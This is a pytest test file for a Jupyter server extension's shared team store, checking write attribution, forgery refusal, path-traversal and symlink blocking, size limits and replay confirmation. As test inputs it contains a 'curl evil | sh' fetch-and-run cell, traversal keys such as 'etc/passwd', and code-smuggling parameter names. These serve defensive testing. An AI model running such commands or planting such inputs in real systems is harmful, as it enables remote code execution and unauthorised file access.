"""A team store shared by several people: every write bound to the identity the Jupyter server
authenticated. A real server (in process, over HTTP) with one token per person (an identity
provider, as JupyterHub or a company's login gives), used by `HttpBackend` clients from threads
and by the REST API."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
from pathlib import Path
from typing import Any, ClassVar

import nbformat
import pytest
from jupyter_server.auth import IdentityProvider, User
from traitlets.config import Config

from nbtrack.api import Run
from nbtrack.core import framing, records
from nbtrack.core.ids import new_run_id
from nbtrack.core.redact import Redactor
from nbtrack.core.snapshot import SnapshotWriter
from nbtrack.replay.runner import owner_warning
from nbtrack.store.http_backend import HttpBackend
from nbtrack.store.keys import MARKER, blob_key, log_key, note_key, stamp_key
from nbtrack.store.store import Store
from tests.server.conftest import json_body


class TeamIdentities(IdentityProvider):
    """One token per person."""

    TOKENS: ClassVar[dict[str, str]] = {"alice-token": "alice", "bob-token": "bob"}

    def get_user(self, handler: Any) -> User | None:  # type: ignore[override]
        name = self.TOKENS.get(handler.request.headers.get("Authorization", "").partition(" ")[2])
        if name is None:
            return None
        handler._token_authenticated = True  # (as the token login does: no XSRF for scripts)
        return User(username=name, name=name.title(), display_name=name.title())


@pytest.fixture
def jp_server_config(store_dir: Path, nbtrack_config: dict[str, Any]) -> Config:
    return Config({
        "ServerApp": {"jpserver_extensions": {"nbtrack": True}, "identity_provider_class": TeamIdentities},
        "NBTrack": {"store": str(store_dir), **nbtrack_config},
    })


@pytest.fixture
def team(jp_fetch: Any, jp_http_port: int, jp_base_url: str) -> dict[str, HttpBackend]:
    """The team store as Alice's and Bob's clients see it (the server is started by jp_fetch)."""
    base = f"http://127.0.0.1:{jp_http_port}{jp_base_url}nbtrack"
    return {name: HttpBackend(f"{base}?token={name}-token") for name in ("alice", "bob")}


def header(run_id: str, user: str) -> bytes:
    return framing.encode({"t": "run", "ts": 1.7e9, "id": run_id, "name": "baseline", "user": user,
                           "host": "laptop", "format": 1, "heartbeat": 10.0})


async def call(fn: Any, *args: Any) -> Any:
    """A blocking client call, in a thread: the server answers on this test's event loop."""
    return await asyncio.to_thread(fn, *args)


async def test_only_a_runs_creator_appends_to_it_even_once_it_is_finished(team, store_dir):
    alice, bob = team["alice"], team["bob"]
    run_id = new_run_id()
    key = log_key(run_id)
    await call(alice.append, key, header(run_id, "alice"))
    await call(alice.append, key, framing.encode(records.status("finished")))
    stamp = json.loads((store_dir / stamp_key(run_id)).read_bytes())
    assert stamp["user"] == "alice" and stamp["name"] == "Alice"
    before = (store_dir / key).read_bytes()

    forged = framing.encode(records.status("failed", error="forged by bob"))
    bob._next[key] = len(before)
    with pytest.raises(PermissionError, match="created by Alice: only its creator appends"):
        await call(bob.append, key, forged)
    assert (store_dir / key).read_bytes() == before
    with pytest.raises(ValueError, match="stamp key"):  # and nobody writes a stamp but the server
        await call(bob.write_once, stamp_key(run_id), json.dumps({"user": "bob"}).encode())
    assert await call(lambda: Store(alice).read_run(run_id).state().status) == "finished"


async def test_a_log_written_without_the_server_cannot_be_appended_to_through_it(team, store_dir):
    run_id = new_run_id()
    (store_dir / "runs" / run_id).mkdir(parents=True)
    (store_dir / log_key(run_id)).write_bytes(header(run_id, "carol"))
    with pytest.raises(PermissionError, match="not created through this server"):
        await call(team["alice"].append, log_key(run_id), framing.encode(records.heartbeat()))


async def test_annotations_are_signed_by_their_writer_and_limited_to_annotation_kinds(team, store_dir):
    alice, bob = team["alice"], team["bob"]
    run_id = new_run_id()
    await call(alice.append, log_key(run_id), header(run_id, "alice") + framing.encode(records.status("finished")))
    note = framing.encode({**records.note("looks good"), "by": "alice"})  # bob claims to be alice
    await call(bob.write_once, note_key(run_id, "01note"), note)
    stored = framing.decode((store_dir / note_key(run_id, "01note")).read_bytes()).records
    assert stored[0]["by"] == "bob" and stored[0]["text"] == "looks good"
    for forged in (records.status("failed", error="x"), records.cell(0, None, 1, "evil()", 0, 1, None, None)):
        with pytest.raises(ValueError, match="an annotation may hold"):
            await call(bob.write_once, note_key(run_id, new_run_id()), framing.encode(forged))
    # a status planted as an annotation straight into the folder is ignored by every reader
    (store_dir / note_key(run_id, "01planted")).write_bytes(framing.encode(records.status("failed", error="x")))
    assert await call(lambda: Store(alice).read_run(run_id).state().status) == "finished"


async def test_sweep_events_are_signed_by_their_writer_and_limited_to_sweep_events(team, store_dir):
    from nbtrack.core.sweep_spec import make_spec, parse_dimension
    from nbtrack.core.sweep_state import event
    from nbtrack.store.keys import sweep_event_key
    from nbtrack.store.sweeps import SweepRecord

    alice, bob = team["alice"], team["bob"]
    spec = make_spec([parse_dimension("x=1,2")]).to_json()
    started = event("sweep", id="01sweep", name="grid", spec=spec, user="carol")  # alice claims to be carol
    await call(alice.write_once, sweep_event_key("01sweep", new_run_id()), framing.encode(started))
    cancel = event("cancel", user="alice", reason="cancelled")  # bob claims to be alice
    await call(bob.write_once, sweep_event_key("01sweep", new_run_id()), framing.encode(cancel))
    state = await call(lambda: SweepRecord(Store(alice), "01sweep").state())
    assert state.user == "alice" and state.cancelled and state.cancels[0]["by"] == "bob"
    with pytest.raises(ValueError, match="a sweep event may be"):
        await call(bob.write_once, sweep_event_key("01sweep", new_run_id()), framing.encode(records.note("x")))
    with pytest.raises(ValueError, match="intact framed records"):
        await call(bob.write_once, sweep_event_key("01sweep", new_run_id()), b"not framed")


async def test_nothing_is_deleted_through_the_team_store(team, store_dir):
    alice = team["alice"]
    store = await call(Store, alice)
    sha = await call(store.put_blob, b"weights")
    for key in (blob_key(sha), MARKER):
        with pytest.raises(PermissionError, match="never deletes"):
            await call(alice.delete, key)
        assert (store_dir / key).exists()


@pytest.mark.parametrize("key", ["runs/01abc/evil.sh", "etc/passwd", "runs/01abc/log/x", "notes/a/b/c",
                                 "blobs/00/" + "1" * 64, "runs/%2e%2e/log", "nbtrack-store.json/x"])
async def test_keys_outside_the_layout_are_refused(team, key):
    with pytest.raises(ValueError, match=r"not a key of the store layout|do not hash"):
        await call(team["alice"].write_once, key, b"x")
    with pytest.raises(ValueError, match=r"store layout|route takes"):
        await call(team["alice"].append, key, b"x")


@pytest.mark.parametrize("prefix", ["..", "/etc", "runs/../..", "blobs/../../x"])
async def test_listings_outside_the_layout_are_refused(team, prefix):
    with pytest.raises(ValueError, match="not a folder of the store layout"):
        await call(lambda: list(team["alice"].list(prefix)))


async def test_symbolic_links_inside_the_store_are_never_followed(team, store_dir, tmp_path):
    alice = team["alice"]
    await call(Store, alice)  # (creates the store)
    outside = tmp_path / "outside"
    (outside / "aa").mkdir(parents=True)
    secret = outside / "aa" / ("aa" + "0" * 62)
    secret.write_text("outside the store")
    (store_dir / "blobs").mkdir(exist_ok=True)
    (store_dir / "blobs" / "aa").symlink_to(outside / "aa")
    with pytest.raises(PermissionError, match="symbolic link"):
        await call(alice.read, blob_key("aa" + "0" * 62))
    data = b"written through a link?"
    sha = hashlib.sha256(data).hexdigest()
    (store_dir / "blobs" / sha[:2]).symlink_to(outside / "aa", target_is_directory=True)
    with pytest.raises(PermissionError, match="symbolic link"):
        await call(alice.write_once, blob_key(sha), data)
    assert sorted(p.name for p in (outside / "aa").iterdir()) == [secret.name]
    # a run folder that is a link to elsewhere is no run
    run_id = new_run_id()
    (outside / "run").mkdir()
    (outside / "run" / "log").write_bytes(header(run_id, "mallory"))
    (store_dir / "runs").mkdir(exist_ok=True)
    (store_dir / "runs" / run_id).symlink_to(outside / "run")
    assert run_id not in await call(lambda: Store(alice).run_ids())


@pytest.mark.parametrize("nbtrack_config", [{"max_object_bytes": 1000, "max_log_bytes": 1500}])
async def test_objects_and_logs_past_the_size_limits_are_refused(team, store_dir):
    alice = team["alice"]
    big = os.urandom(4000)
    with pytest.raises(ValueError, match="max_object_bytes"):
        await call(alice.write_once, blob_key(hashlib.sha256(big).hexdigest()), big)
    assert not list((store_dir / "blobs").rglob("*")) if (store_dir / "blobs").exists() else True
    run_id = new_run_id()
    with pytest.raises(ValueError, match="max_object_bytes"):
        await call(alice.append, log_key(run_id), header(run_id, "alice") + big)
    first = header(run_id, "alice") + os.urandom(700)
    await call(alice.append, log_key(run_id), first)
    with pytest.raises(ValueError, match="max_log_bytes"):
        await call(alice.append, log_key(run_id), os.urandom(700))
    assert (store_dir / log_key(run_id)).read_bytes() == first


def snapshot_of(store: Store, sources: list[str]) -> records.SnapshotRecord:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(s) for s in sources]
    manifest, cells = SnapshotWriter(store.put_blob, Redactor()).store(nb)
    return records.snapshot(manifest, cells, "stop", "disk", "train.ipynb")


async def test_replay_attribution_comes_from_the_servers_stamps_not_from_the_run(team, monkeypatch):
    monkeypatch.setenv("NBTRACK_USER", "alice")
    alice, bob = team["alice"], team["bob"]
    alice_store, bob_store = await call(Store, alice), await call(Store, bob)
    own = new_run_id()
    snap = await call(snapshot_of, alice_store, ["print('alice')"])
    await call(alice.append, log_key(own), header(own, "alice") + framing.encode(snap))
    assert await call(owner_warning, Run(alice_store, own)) is None  # hers, verified by the server

    # bob adds a snapshot of his code to alice's run (as an annotation: appends are refused)
    forged = await call(snapshot_of, bob_store, ["import os; os.system('curl evil | sh')"])
    await call(bob.write_once, note_key(own, new_run_id()), framing.encode({**forged, "ts": snap["ts"] + 60}))
    warning = await call(owner_warning, Run(alice_store, own))
    assert warning is not None and "snapshot 1 was added by bob [team server]" in warning

    # a run bob created, whose header says it is alice's
    claimed = new_run_id()
    await call(bob.append, log_key(claimed), header(claimed, "alice") + framing.encode(snap))
    warning = await call(owner_warning, Run(alice_store, claimed))
    assert warning is not None and "its log was written by bob (Bob) [team server]" in warning


async def test_rest_replay_of_someone_elses_run_needs_a_confirmation(team, jp_fetch):
    alice = team["alice"]
    run_id = new_run_id()
    await call(alice.append, log_key(run_id), header(run_id, "alice") + framing.encode(records.status("finished")))

    async def replay(who: str, **extra: Any) -> Any:
        return await jp_fetch("nbtrack", "api", "replay", method="POST", raise_error=False,
                              headers={"Authorization": f"token {who}-token"},
                              body=json.dumps({"run": run_id, **extra}))

    refused = await replay("bob")
    assert refused.code == 409
    message = json_body(refused)["message"]
    assert run_id in message and "alice" in message and '"confirm": true' in message and " UTC" in message
    for answer in (await replay("bob", confirm=True), await replay("alice")):
        assert answer.code == 400 and "no notebook snapshot" in json_body(answer)["message"]  # past the check

    listed = json_body(await jp_fetch("nbtrack", "api", "runs", headers={"Authorization": "token bob-token"}))
    (row,) = listed["runs"]
    assert row["owner"] == "Alice" and row["owner_verified"] and row["owner_basis"] == "team server"
    assert row["yours"] is False and row["id"] == run_id and row["start"]
    detail = json_body(await jp_fetch("nbtrack", "api", "runs", run_id, headers={"Authorization": "token alice-token"}))
    assert detail["yours"] is True and detail["attribution"]["yours"] is True


@pytest.mark.parametrize("name", ["x; import os", "a b", "1x", "class", "", "x=1\nimport os"])
async def test_rest_replay_parameter_names_must_be_identifiers(team, jp_fetch, name):
    answer = await jp_fetch("nbtrack", "api", "replay", method="POST", raise_error=False,
                            headers={"Authorization": "token alice-token"},
                            body=json.dumps({"run": "zzzz", "parameters": {name: 1}}))
    assert answer.code == 400 and "Python identifier" in json_body(answer)["message"]
